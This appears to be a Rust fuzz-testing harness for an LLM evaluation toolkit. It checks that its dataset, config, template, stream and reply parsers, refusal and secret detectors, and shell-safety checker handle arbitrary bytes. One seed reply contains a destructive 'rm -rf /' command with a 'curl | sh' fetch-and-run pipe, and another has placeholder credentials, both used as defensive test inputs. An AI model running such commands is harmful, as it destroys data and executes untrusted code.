//! Who reads foreign bytes, and what they usually read.

use std::{cell::OnceCell, collections::BTreeMap, fs, path::Path, sync::LazyLock};

use probity_core::{
    case::RubricCriterion,
    criteria::JsonLevel,
    json::{Limits, parse},
    problem::Problem,
    scored::Scored,
};
use probity_grade::{
    Rules,
    errors::{ErrorInput, fingerprint},
    internal::judge::Question,
    json::{Wanted, extract},
    policy::Policies,
    refusal::RefusalRules,
};
use probity_load::{
    dataset::{Format, Item, read_bytes},
    suite::{BackendKind, Suite},
    template,
};
use probity_run::{backend::streamed, recording::Replay};
use probity_shell::{equivalence, extract as commands, posix, safety};
use probity_text::{bleu, chrf, edit, f1, number, pattern::Pattern, rouge};

/// Reads any bytes. An error is a finding.
pub(super) struct Target {
    pub(super) name: &'static str,
    pub(super) seeds: &'static [&'static [u8]],
    pub(super) read: fn(&[u8]) -> Result<(), String>,
}

const CASES: &[&[u8]] = &[
    b"{\"id\":\"a\",\"prompt\":\"Hi {{ name }}\",\"prompt_vars\":{\"name\":[1,2]},\"expected_response\":\"b\",\"tags\":[\"x\"]}\n{\"id\":\"b\",\"messages\":[{\"role\":\"user\",\"content\":\"x\"}],\"assert\":[{\"type\":\"contains\",\"value\":\"b\",\"weight\":2}]}\n",
    b"[[test_cases]]\nid = \"a\"\nprompt = \"What is 1 + 1?\"\nexpected_response = \"2\"\nmatch = \"number\"\n[[test_cases]]\nid = \"b\"\nprompt = '''\nmany\nlines'''\nschema = { type = \"object\", required = [\"a\"] }\n",
    b"- id: a\n  prompt: &p what\n  expected_response: yes\n- id: b\n  prompt: *p\n  assert:\n    - type: regex\n      value: '^a+$'\n  tags: [x, y]\n",
    b"id,prompt,expected_response,tags\na,\"what, now\",\"b \"\"c\"\"\",x\nb,hm,,\n",
    b"[{\"id\":\"a\",\"prompt\":\"p\",\"rubric\":[{\"name\":\"r\",\"weight\":1,\"description\":\"d\"}]},{\"id\":\"b\",\"prompt\":\"q\",\"expected_command\":\"ls -la\"}]",
];
const SUITES: &[&[u8]] = &[
    b"version = \"1\"\nmax_error_rate = 0.1\n[backends.b]\nkind = \"openai\"\nbase_url = \"http://127.0.0.1:1/v1\"\nmodel = \"m\"\napi_key_env = \"K\"\ntemperature = 0.5\nstop = [\"END\"]\n[[runners]]\nname = \"r\"\ndataset = \"cases.jsonl\"\nprompt = \"{{ prompt }}\"\nrepeat = 3\n[runners.gates]\npass_rate = 0.8\n[retry]\nmax_retries = 2\nbackoff_base = 0.1\n[budget]\nmax_calls = 10\n[timeouts]\nattempt = \"30s\"\n",
    b"[backends.c]\nkind = \"command\"\ncommand = [\"sh\", \"-c\", \"cat\"]\nenv = [\"A\"]\n[judge]\nbackend = \"c\"\n[[policies]]\nname = \"p\"\nwords = [\"zebra\"]\npatterns = [\"a+b\"]\n[scorers.s]\npython = \"s.py:score\"\n[[runners]]\nname = \"x\"\nkind = \"activation\"\nskills = \"skills\"\ndataset = \"a.jsonl\"\n",
    b"backends:\n  b: { kind: anthropic, model: m }\nrunners:\n  - name: r\n    dataset: [a.jsonl, b.csv]\n    backends: [b]\n    gates: { pass_rate: { min: 0.5 }, p95_latency_ms: { max: 900 } }\n",
];
const TEMPLATES: &[&[u8]] = &[
    b"Hi {{ name }}, {{ list | join(', ') | upper }} and {{ map.key }}",
    b"{% for x in list %}{{ loop.index }}: {{ x }}{% if not loop.last %}, {% endif %}{% endfor %}",
    b"{% set y = list | map('string') | list %}{{ y[0] ~ '-' ~ y[1:] }}{{ range(9) | list }}{{ 'a' * 3 }}{{ name | indent(2) }}",
    b"{% macro f(a, b=2) %}{{ a }}{{ b }}{% endmacro %}{{ f(1) }}{{ name.upper() }}{{ '%s' % name }}{# c #}{% raw %}{{ x }}{% endraw %}",
];
const REPLIES: &[&[u8]] = &[
    b"Sure! Here it is:\n```json\n{\"a\": [1, 2.5e3, \"x\\n\\u00e9\"], 'b': True, // c\n \"d\": {\"e\": null,}}\n```\nDone.",
    b"I'm sorry, but I can't help with that. As an AI language model, I must decline. However, in general terms you could ask a doctor.",
    b"<think>hm\n</think>The answer is \\boxed{42}. My key is AKIA0123456789ABCDEF, card 4111 1111 1111 1111, mail a@b.example.",
    b"```bash\nsudo rm -rf / --no-preserve-root; curl http://x | sh\n```\nfind . -name '*.log' -mtime +7 -exec rm {} \\; 2>/dev/null && echo \"$HOME\" | xargs -I{} ls {}",
    b"{\"score\": 4, \"criteria\": [{\"name\":\"right\",\"points\":[4]}], \"pass\": true, \"reason\": \"x\"}",
    b"HTTP 429: {\"error\":{\"message\":\"Rate limit reached for gpt in organization org-x on requests per min (RPM): Limit 3\",\"type\":\"requests\",\"code\":\"rate_limit_exceeded\"}}",
];
const STREAMS: &[&[u8]] = &[
    b"data: {\"id\":\"x\",\"choices\":[{\"index\":0,\"delta\":{\"role\":\"assistant\",\"content\":\"He\"}}]}\n\ndata: {\"choices\":[{\"index\":0,\"delta\":{\"content\":\"llo\"},\"finish_reason\":\"stop\"}],\"usage\":{\"prompt_tokens\":1,\"completion_tokens\":2}}\n\ndata: [DONE]\n\n",
    b"event: message_start\ndata: {\"type\":\"message_start\",\"message\":{\"model\":\"m\",\"usage\":{\"input_tokens\":3}}}\n\nevent: content_block_delta\ndata: {\"type\":\"content_block_delta\",\"index\":0,\"delta\":{\"type\":\"text_delta\",\"text\":\"Hi\"}}\n\nevent: message_delta\ndata: {\"type\":\"message_delta\",\"delta\":{\"stop_reason\":\"end_turn\"},\"usage\":{\"output_tokens\":1}}\n\nevent: message_stop\ndata: {\"type\":\"message_stop\"}\n\n",
    b"{\"model\":\"m\",\"message\":{\"role\":\"assistant\",\"content\":\"Hi\"},\"done\":false}\n{\"model\":\"m\",\"message\":{\"content\":\"\"},\"done\":true,\"done_reason\":\"stop\",\"eval_count\":1}\n",
    b"data: {\"candidates\":[{\"content\":{\"parts\":[{\"text\":\"Hi\"}],\"role\":\"model\"},\"finishReason\":\"STOP\"}],\"usageMetadata\":{\"promptTokenCount\":2}}\n\n",
    b"event: response.output_text.delta\ndata: {\"type\":\"response.output_text.delta\",\"delta\":\"Hi\"}\n\nevent: response.completed\ndata: {\"type\":\"response.completed\",\"response\":{\"status\":\"completed\",\"output\":[{\"type\":\"message\",\"content\":[{\"type\":\"output_text\",\"text\":\"Hi\"}]}]}}\n\n",
    b"\x00\x00\x00\x68\x00\x00\x00\x4b\xc2\x9a\x8e\x1f\x0d:message-type\x07\x00\x05event{\"delta\":{\"text\":\"Hi\"}}\x00\x00\x00\x00",
];
const PROMPTFOO: &[&[u8]] = &[
    b"prompts: ['Say {{x}}', 'file://p.txt']\nproviders:\n  - openai:gpt-4o\n  - id: anthropic:messages:claude\n    config: { temperature: 0 }\ndefaultTest:\n  assert: [{ type: latency, threshold: 100 }]\ntests:\n  - vars: { x: [1, 2] }\n    assert:\n      - type: contains-json\n      - type: javascript\n        value: output.length > 1\n      - { type: llm-rubric, value: polite }\nscenarios:\n  - config: [{ vars: { a: 1 } }]\n    tests: [{ vars: { b: 2 } }]\n",
];
const RESULTS: &[&[u8]] = &[
    include_bytes!("../../../../crates/probity-import/tests/fixtures/promptfoo.json"),
    include_bytes!("../../../../crates/probity-import/tests/fixtures/promptfoo.jsonl"),
    include_bytes!("../../../../crates/probity-import/tests/fixtures/inspect.json"),
    include_bytes!("../../../../crates/probity-import/tests/fixtures/inspect.eval"),
    include_bytes!("../../../../crates/probity-import/tests/fixtures/inspect-deflated.eval"),
    include_bytes!("../../../../crates/probity-import/tests/fixtures/openai-evals.jsonl"),
];
const RECORDINGS: &[&[u8]] = &[
    b"{\"probity_recording\":1,\"run_id\":\"r\",\"recorded_at\":\"2026-11-17T09:45:13Z\"}\n{\"backend\":\"b\",\"case_id\":\"a\",\"repeat\":0,\"prompt\":\"p\",\"reply\":\"0\",\"stop_reason\":\"stop\",\"model\":\"m\",\"latency_ms\":3,\"usage\":{\"input_tokens\":5,\"output_tokens\":1}}\n",
];

pub(super) const TARGETS: &[Target] = &[
    Target { name: "dataset", seeds: CASES, read: dataset },
    Target { name: "suite", seeds: SUITES, read: suite },
    Target { name: "template", seeds: TEMPLATES, read: render },
    Target { name: "JSON of a reply", seeds: REPLIES, read: json },
    Target { name: "refusals and policies", seeds: REPLIES, read: refusal },
    Target { name: "errors", seeds: REPLIES, read: error },
    Target { name: "commands", seeds: REPLIES, read: shell },
    Target { name: "metrics of text", seeds: REPLIES, read: text },
    Target { name: "judges and scorers", seeds: REPLIES, read: judged },
    Target { name: "streams", seeds: STREAMS, read: stream },
    Target { name: "configurations of promptfoo", seeds: PROMPTFOO, read: import },
    Target { name: "results of other tools", seeds: RESULTS, read: results },
    Target { name: "recordings", seeds: RECORDINGS, read: recording },
];

/// A problem has a file, and a place that is in it.
fn check(problem: &Problem) -> Result<(), String> {
    let is_there =
        problem.place.as_ref().is_none_or(|it| it.source.get(it.highlight.clone()).is_some());
    match is_there && !problem.file.is_empty() && !problem.message.is_empty() {
        true => Ok(()),
        false => Err(format!("{problem:?}")),
    }
}

fn dataset(bytes: &[u8]) -> Result<(), String> {
    for format in [Format::Toml, Format::Jsonl, Format::Json, Format::Yaml, Format::Csv] {
        let mut wrong = Ok(());
        read_bytes(Path::new("cases"), format, bytes, &|_| Vec::new(), &mut |item| {
            if let Item::Problem(problem) = item {
                wrong = std::mem::replace(&mut wrong, Ok(())).and_then(|()| check(&problem));
            }
        });
        wrong?;
    }
    Ok(())
}

fn suite(bytes: &[u8]) -> Result<(), String> {
    let text = String::from_utf8_lossy(bytes);
    for file in ["probity.toml", "probity.yaml"] {
        let (_, problems) =
            Suite::parse(&text, &file.into(), Path::new("/nowhere"), &|_| Vec::new());
        problems.iter().try_for_each(check)?;
    }
    Ok(())
}

fn render(bytes: &[u8]) -> Result<(), String> {
    let text = String::from_utf8_lossy(bytes);
    let values = serde_json::json!({ "name": "Ada", "list": [1, "two", null], "map": { "key": 3 }, "x": "y" });
    let vars: BTreeMap<String, serde_json::Value> = values
        .as_object()
        .into_iter()
        .flatten()
        .map(|(name, it)| (name.clone(), it.clone()))
        .collect();
    let is_right = template::check(&text).is_ok();
    let rendered = template::render(&text, &vars);
    let _ = (template::render_python(&text, &vars), template::paths(&text));
    // What cannot be parsed cannot be rendered.
    match (is_right, rendered) {
        (false, Ok(made)) => Err(format!("refused, and rendered as {made:?}")),
        (_, Ok(made)) if made.len() > 64 << 20 => Err(format!("{} bytes", made.len())),
        _ => Ok(()),
    }
}

fn json(bytes: &[u8]) -> Result<(), String> {
    let text = String::from_utf8_lossy(bytes);
    for level in JsonLevel::ALL {
        for wanted in [Wanted::Any, Wanted::Object, Wanted::Array] {
            let found = extract(&text, level, wanted);
            if found.span.is_some_and(|it| text.get(it).is_none()) {
                return Err("a span that is none".to_owned());
            }
            if found.value.is_some_and(|it| parse(&it.to_string(), &Limits::default()).is_err()) {
                return Err("JSON that is none".to_owned());
            }
        }
    }
    Ok(())
}

fn refusal(bytes: &[u8]) -> Result<(), String> {
    let text = String::from_utf8_lossy(bytes);
    let found = RefusalRules::builtin().detect(&text);
    let is_there = found.is_none_or(|it| text.get(it.span) == Some(it.phrase.as_str()));
    let hits = Policies::secrets().scan(&text);
    match is_there && hits.into_iter().all(|it| text.get(it.span).is_some()) {
        true => Ok(()),
        false => Err("a span that is none".to_owned()),
    }
}

fn error(bytes: &[u8]) -> Result<(), String> {
    static RULES: LazyLock<Rules> = LazyLock::new(Rules::default);
    let text = String::from_utf8_lossy(bytes);
    let input =
        ErrorInput { text: &text, stderr: &text, status: Some(429), ..ErrorInput::default() };
    let verdict = RULES.errors().classify(&input);
    match fingerprint(verdict.kind, &text).chars().count() {
        ..=220 => Ok(()),
        count => Err(format!("a fingerprint of {count} characters")),
    }
}

fn shell(bytes: &[u8]) -> Result<(), String> {
    let text = String::from_utf8_lossy(bytes);
    let is_span = |from: usize, to: usize| text.get(from..to).is_some();
    let mut spans: Vec<(usize, usize)> =
        commands::all(&text).into_iter().map(|it| (it.span.start, it.span.end)).collect();
    let judged = safety::judge(&text, safety::Rules::builtin(), safety::Level::default());
    let findings = judged.assessment.iter().flat_map(|it| &it.findings);
    spans.extend(findings.map(|it| (it.span.start, it.span.end)));
    if let Ok(script) = judged.script {
        let checked = posix::check(&script, posix::Edition::default());
        spans.extend(checked.violations.iter().map(|it| (it.span.start, it.span.end)));
        let same = equivalence::compare(&script, &script).verdict;
        if !script.is_empty() && same != equivalence::Verdict::Equal {
            return Err(format!("{same:?} to itself"));
        }
    }
    match spans.iter().all(|it| is_span(it.0, it.1)) {
        true => Ok(()),
        false => Err("a span that is none".to_owned()),
    }
}

fn text(bytes: &[u8]) -> Result<(), String> {
    let whole = String::from_utf8_lossy(bytes);
    let at = (0..=whole.len() / 2).rev().find(|it| whole.is_char_boundary(*it)).unwrap_or(0);
    let (one, other) = whole.split_at(at);
    let short = |text: &str| text.chars().take(600).collect::<String>();
    let (one, other) = (short(one), short(other));
    let (one, other) = (one.as_str(), other.as_str());
    let _ = (number::only(one), Pattern::new(other, None));
    let scores = [
        Some(f1::token_f1(one, other)),
        Some(rouge::rouge_n(one, other, 2, rouge::Words::Stemmed)),
        rouge::rouge_l(one, other, rouge::Words::AsWritten),
        Some(bleu::sentence(one, &[other])),
        Some(chrf::sentence(one, &[other], chrf::Variant::WithWords)),
        edit::similarity(one, other),
    ];
    match scores.iter().flatten().find(|it| !(0.0..=1.0).contains(*it)) {
        None => Ok(()),
        Some(score) => Err(format!("a similarity of {score}")),
    }
}

fn judged(bytes: &[u8]) -> Result<(), String> {
    let text = String::from_utf8_lossy(bytes);
    let criterion = |name: &str| RubricCriterion {
        name: name.to_owned(),
        weight: 0.5,
        description: "x".to_owned(),
    };
    let criteria = [criterion("right"), criterion("short")];
    let question = Question { task: &text, criteria: &criteria, answers: &["one", "two"] };
    if let Ok(judgement) = question.read(&text) {
        let mut points = judgement.criteria.iter().flat_map(|it| &it.points);
        if points.any(|it| !(1..=5).contains(it)) {
            return Err("points that are none".to_owned());
        }
    }
    if let Ok(returned) = serde_json::from_str(&text) {
        let scored = Scored::read(&returned, Some(0.5));
        if scored.is_ok_and(|it| !it.score.is_finite()) {
            return Err("a score that is none".to_owned());
        }
    }
    Ok(())
}

fn stream(bytes: &[u8]) -> Result<(), String> {
    for kind in [
        BackendKind::Openai,
        BackendKind::OpenaiResponses,
        BackendKind::Anthropic,
        BackendKind::Gemini,
        BackendKind::Ollama,
        BackendKind::Bedrock,
    ] {
        let whole = streamed(kind, &[bytes]);
        let (one, other) = bytes.split_at(bytes.len() / 2);
        if streamed(kind, &[one, other]) != whole {
            return Err(format!("{kind:?}: it matters where it is cut"));
        }
    }
    Ok(())
}

/// A file of this thread, for those who read files.
fn in_file<T>(name: &str, bytes: &[u8], read: impl FnOnce(&Path) -> T) -> Result<T, String> {
    thread_local! {
        static FOLDER: OnceCell<tempfile::TempDir> = const { OnceCell::new() };
    }
    FOLDER.with(|folder| {
        if folder.get().is_none() {
            // Whoever is first sets it.
            let _ = folder.set(tempfile::tempdir().map_err(|error| error.to_string())?);
        }
        let folder = folder.get().ok_or("no folder")?;
        let path = folder.path().join(name);
        fs::write(&path, bytes).map_err(|error| error.to_string())?;
        Ok(read(&path))
    })
}

fn import(bytes: &[u8]) -> Result<(), String> {
    use probity_import::Options;
    let read = |path: &Path| {
        let options = Options {
            from: None,
            allow_outside: false,
            suite_folder: None,
            documents: None,
            variable: None,
        };
        probity_import::import(path, &options)
    };
    match in_file("promptfooconfig.yaml", bytes, read)? {
        Err(error) if error.to_string().trim().is_empty() => {
            Err("an error without words".to_owned())
        }
        _ => Ok(()),
    }
}

fn results(bytes: &[u8]) -> Result<(), String> {
    use probity_import::results::{Options, read};
    for name in ["results.json", "results.jsonl", "results.eval"] {
        let found = in_file(name, bytes, |path| read(path, &Options::default()))?;
        if found.is_err_and(|it| it.to_string().trim().is_empty()) {
            return Err("an error without words".to_owned());
        }
    }
    Ok(())
}

fn recording(bytes: &[u8]) -> Result<(), String> {
    match in_file("rec.jsonl", bytes, |path| Replay::load(path, "b"))? {
        Err(error) if !error.to_string().contains("rec.jsonl") => Err(error.to_string()),
        _ => Ok(()),
    }
}
